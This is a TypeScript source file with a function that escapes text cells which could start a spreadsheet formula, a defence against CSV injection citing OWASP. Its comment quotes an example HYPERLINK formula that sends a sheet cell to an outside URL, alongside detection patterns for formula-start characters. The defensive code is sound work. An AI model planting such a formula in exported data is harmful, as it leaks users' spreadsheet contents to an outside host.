/**
 * Spreadsheet formula injection ("CSV injection"): Excel, WPS and LibreOffice run a cell that starts with = + - @
 * (and, after a tab or carriage return, whatever follows) as a formula — `=HYPERLINK("http://…?"&A1)` leaks the
 * sheet, and a real 绩效目标表 has the 指标值 "=100%". Page text is hostile, so text that could start a formula gets a
 * leading apostrophe, the marker OWASP recommends and that Excel itself uses for "this is text".
 * https://owasp.org/www-community/attacks/CSV_Injection
 *
 * Only text passes through here: an amount is written by us from its parsed value ("-3.20"), so a negative number
 * stays a number.
 */

/** First characters that start a formula, or that a spreadsheet skips before looking for one. */
const FORMULA_START = /^[=+\-@\t\r\n]/;
/** Leading spaces are trimmed by some importers (LibreOffice "trim spaces"), which would expose the next "=". */
const SPACED_FORMULA_START = /^[ \u00a0\u3000]+[=+\-@]/;

export function guardFormula(text: string): string {
  return FORMULA_START.test(text) || SPACED_FORMULA_START.test(text) ? `'${text}` : text;
}
